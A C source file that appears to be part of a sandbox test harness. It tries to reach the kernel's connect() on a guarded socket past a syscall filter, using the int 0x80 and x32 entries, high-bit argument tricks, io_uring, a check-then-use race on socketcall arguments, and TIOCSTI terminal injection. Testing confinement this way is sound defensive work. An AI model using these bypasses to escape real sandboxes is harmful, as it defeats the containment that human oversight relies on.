/*
 * Other ways into the kernel's connect(): io_uring, the 32-bit entry, numbers that
 * only look different. x86-64 only.
 */
#include "attack.h"

#include <linux/io_uring.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

#define I386_CONNECT	   362
#define I386_SOCKETCALL	   102
#define I386_IOCTL	   54
#define I386_USERFAULTFD   374
#define SOCKETCALL_CONNECT 3
#define X32_BIT		   0x40000000L
#define TRIES		   5000

/* ---- the 64-bit entry, odd numbers ---- */

/**
 * call() - A system call with nothing cut off its number or arguments
 * @nr:	Number
 * @a:	First argument
 * @b:	Second
 * @c:	Third
 *
 * Return: -1 with errno, or what the call returned.
 */
static long call(long nr, long a, long b, long c)
{
	long rc;

	__asm__ volatile("syscall"
			 : "=a"(rc)
			 : "a"(nr), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	if (rc < 0 && rc >= -4095) {
		errno = -rc;
		return -1;
	}
	return rc;
}

/* connect() to the guarded socket by a number, with bits added to two arguments. */
static const char *numbered(long nr, long fd_bits, long len_bits)
{
	struct sockaddr_un sun;
	long len = address(&sun, guard);
	int fd = unix_socket();

	return outcome(fd, call(nr, fd | fd_bits, (long)&sun, len | len_bits));
}

static const char *high_number(void)
{
	return numbered(SYS_connect | 1L << 32, 0, 0);
}

static const char *high_descriptor(void)
{
	return numbered(SYS_connect, 1L << 32, 0);
}

static const char *high_length(void)
{
	return numbered(SYS_connect, 0, 1L << 32);
}

static const char *x32(void)
{
	return numbered(SYS_connect | X32_BIT, 0, 0);
}

static const char *number_minus_one(void)
{
	return numbered(-1, 0, 0);
}

static const char *number_minus_one_32_bits(void)
{
	return numbered(0xffffffffL, 0, 0);
}

/* ---- the 32-bit entry from a 64-bit program ---- */

static long call32(long nr, long a, long b, long c)
{
	long rc;

	__asm__ volatile("int $0x80"
			 : "=a"(rc)
			 : "a"(nr), "b"(a), "c"(b), "d"(c)
			 : "r8", "r9", "r10", "r11", "memory");
	rc = (int)rc;
	if (rc < 0 && rc >= -4095) {
		errno = -rc;
		return -1;
	}
	return rc;
}

/* What the 32-bit entry can point to, in memory below 4 GiB. */
struct low {
	struct sockaddr_un sun;
	uint32_t args[3];
};

static struct low *low_memory(void)
{
	void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	must(page == MAP_FAILED ? -1 : 0, "mmap");
	return page;
}

static const char *int80_connect(void)
{
	struct low *low = low_memory();
	socklen_t len = address(&low->sun, guard);
	int fd = unix_socket();

	return outcome(fd, call32(I386_CONNECT, fd, (long)&low->sun, len));
}

/**
 * socketcall() - connect() as the 32-bit socketcall(2) has it
 * @low:	Where the arguments go
 * @op:		The operation, with whatever else is in the register
 * @path:	Where to
 *
 * Return: the outcome.
 */
static const char *socketcall(struct low *low, long op, const char *path)
{
	socklen_t len = address(&low->sun, path);
	int fd = unix_socket();

	low->args[0] = fd;
	low->args[1] = (uintptr_t)&low->sun;
	low->args[2] = len;
	return outcome(fd, call32(I386_SOCKETCALL, op, (long)low->args, 0));
}

static const char *int80_socketcall(void)
{
	return socketcall(low_memory(), SOCKETCALL_CONNECT, guard);
}

/* The 32-bit entry takes the low half of the register. */
static const char *int80_socketcall_high(void)
{
	return socketcall(low_memory(), SOCKETCALL_CONNECT | 1L << 32, guard);
}

static const char *int80_number_high(void)
{
	struct low *low = low_memory();
	socklen_t len = address(&low->sun, guard);
	int fd = unix_socket();

	return outcome(fd, call32(I386_CONNECT | 1L << 32, fd, (long)&low->sun, len));
}

static const char *int80_socketcall_unreadable(void)
{
	return result(call32(I386_SOCKETCALL, SOCKETCALL_CONNECT, 0, 0));
}

/* An operation that is not connect: socket(AF_UNIX, SOCK_STREAM, 0). */
static const char *int80_socketcall_socket(void)
{
	struct low *low = low_memory();

	low->args[0] = AF_UNIX;
	low->args[1] = SOCK_STREAM;
	low->args[2] = 0;
	return result(call32(I386_SOCKETCALL, 1, (long)low->args, 0));
}

/* Typing into a terminal, as process.c does by the 64-bit entry. */
static const char *int80_ioctl(void)
{
	int master = must(posix_openpt(O_RDWR | O_NOCTTY), "posix_openpt"), slave;
	char *page = (char *)low_memory();

	must(grantpt(master) || unlockpt(master) ? -1 : 0, "unlockpt");
	if (must(fork(), "fork") > 0) {
		wait(NULL);
		exit(0);
	}
	setsid();
	slave = must(open(ptsname(master), O_RDWR), "open");
	ioctl(slave, TIOCSCTTY, 0);
	*page = 'x';
	return result(call32(I386_IOCTL, slave, TIOCSTI, (long)page));
}

static const char *int80_io_uring(void)
{
	return result(call32(SYS_io_uring_setup, 4, 0, 0));
}

static const char *int80_userfaultfd(void)
{
	return result(call32(I386_USERFAULTFD, O_CLOEXEC, 0, 0));
}

static atomic_bool over;

/* One argument of socketcall() points to one address or the other. */
static void *flip_argument(void *page)
{
	struct low *low = page;
	bool odd = false;

	while (!atomic_load(&over)) {
		odd = !odd;
		*(volatile uint32_t *)&low[0].args[1] = (uintptr_t)&low[odd].sun;
	}
	return NULL;
}

static const char *int80_socketcall_race(void)
{
	struct low *low = low_memory();
	struct sockaddr_un peer;
	int i, fd, real = 0, connected = 0;
	socklen_t len, peer_len;
	pthread_t beside;

	address(&low[0].sun, guard);
	address(&low[1].sun, other);
	len = sizeof(low->sun);
	pthread_create(&beside, NULL, flip_argument, low);
	for (i = 0; i < TRIES; i++) {
		fd = unix_socket();
		low->args[0] = fd;
		low->args[2] = len;
		if (call32(I386_SOCKETCALL, SOCKETCALL_CONNECT, (long)low->args, 0) == 0) {
			memset(&peer, 0, sizeof(peer));
			peer_len = sizeof(peer);
			getpeername(fd, (struct sockaddr *)&peer, &peer_len);
			connected++;
			real += strcmp(peer.sun_path, guard) == 0;
		}
		close(fd);
	}
	atomic_store(&over, true);
	pthread_join(beside, NULL);
	return format("real=%d connected=%d", real, connected);
}

/* ---- io_uring ---- */

static int ring_fd = -1;

static int ring_setup(struct io_uring_params *p)
{
	return syscall(SYS_io_uring_setup, 4, p);
}

/**
 * ring_connect() - Have a ring connect a socket to the guarded one
 * @ring:	Ring
 * @p:		As the kernel filled it in
 *
 * Return: the outcome.
 */
static const char *ring_connect(int ring, const struct io_uring_params *p)
{
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqe;
	static struct sockaddr_un sun;
	char *sq, *cq;
	long len = address(&sun, guard), deadline = now_ms() + ANSWER_DEADLINE_MS;
	int fd = unix_socket();

	sq = mmap(NULL, p->sq_off.array + p->sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED,
		  ring, IORING_OFF_SQ_RING);
	must(sq == MAP_FAILED ? -1 : 0, "mmap");
	cq = mmap(NULL, p->cq_off.cqes + p->cq_entries * sizeof(*cqe), PROT_READ | PROT_WRITE,
		  MAP_SHARED, ring, IORING_OFF_CQ_RING);
	must(cq == MAP_FAILED ? -1 : 0, "mmap");
	sqes = mmap(NULL, p->sq_entries * sizeof(*sqes), PROT_READ | PROT_WRITE, MAP_SHARED, ring,
		    IORING_OFF_SQES);
	must(sqes == MAP_FAILED ? -1 : 0, "mmap");

	memset(sqes, 0, sizeof(*sqes));
	sqes->opcode = IORING_OP_CONNECT;
	sqes->fd = fd;
	sqes->addr = (uintptr_t)&sun;
	sqes->off = len;
	*(unsigned *)(sq + p->sq_off.array) = 0;
	__atomic_store_n((unsigned *)(sq + p->sq_off.tail), 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1,
		    IORING_ENTER_GETEVENTS |
			    (p->flags & IORING_SETUP_SQPOLL ? IORING_ENTER_SQ_WAKEUP : 0),
		    NULL, 0) < 0)
		return strerrorname_np(errno);
	while (__atomic_load_n((unsigned *)(cq + p->cq_off.tail), __ATOMIC_ACQUIRE) == 0) {
		if (now_ms() > deadline)
			return "silence";
		sched_yield();
	}
	cqe = (struct io_uring_cqe *)(cq + p->cq_off.cqes);
	errno = -cqe->res;
	return outcome(fd, cqe->res < 0 ? -1 : 0);
}

static const char *new_ring(unsigned flags)
{
	struct io_uring_params p = { .flags = flags };

	ring_fd = ring_setup(&p);
	if (ring_fd < 0)
		return strerrorname_np(errno);
	return ring_connect(ring_fd, &p);
}

static const char *io_uring(void)
{
	return new_ring(0);
}

static const char *io_uring_polled(void)
{
	return new_ring(IORING_SETUP_SQPOLL);
}

/* A ring that was there before, by its descriptor. */
static const char *io_uring_inherited(void)
{
	struct io_uring_params p;
	int fd = atoi(extra[0]), i;

	/* The layout of a ring of the same size. */
	if (fcntl(fd, F_GETFD) < 0)
		return strerrorname_np(errno);
	for (i = 0; extra[i + 1] && i < (int)(sizeof(p) / 4); i++)
		((unsigned *)&p)[i] = strtoul(extra[i + 1], NULL, 10);
	return ring_connect(fd, &p);
}

static const char *io_uring_register(void)
{
	return result(syscall(SYS_io_uring_register, -1, IORING_REGISTER_PROBE, NULL, 0));
}

static const struct attack attacks[] = {
	{ "high_number", high_number },
	{ "high_descriptor", high_descriptor },
	{ "high_length", high_length },
	{ "x32", x32 },
	{ "number_minus_one", number_minus_one },
	{ "number_minus_one_32_bits", number_minus_one_32_bits },
	{ "int80_connect", int80_connect },
	{ "int80_number_high", int80_number_high },
	{ "int80_socketcall", int80_socketcall },
	{ "int80_socketcall_high", int80_socketcall_high },
	{ "int80_socketcall_unreadable", int80_socketcall_unreadable },
	{ "int80_socketcall_socket", int80_socketcall_socket },
	{ "int80_ioctl", int80_ioctl },
	{ "int80_io_uring", int80_io_uring },
	{ "int80_userfaultfd", int80_userfaultfd },
	{ "int80_socketcall_race", int80_socketcall_race },
	{ "io_uring", io_uring },
	{ "io_uring_polled", io_uring_polled },
	{ "io_uring_inherited", io_uring_inherited },
	{ "io_uring_register", io_uring_register },
};

int main(int argc, char **argv)
{
	return attack_main(argc, argv, attacks, ARRAY_SIZE(attacks));
}
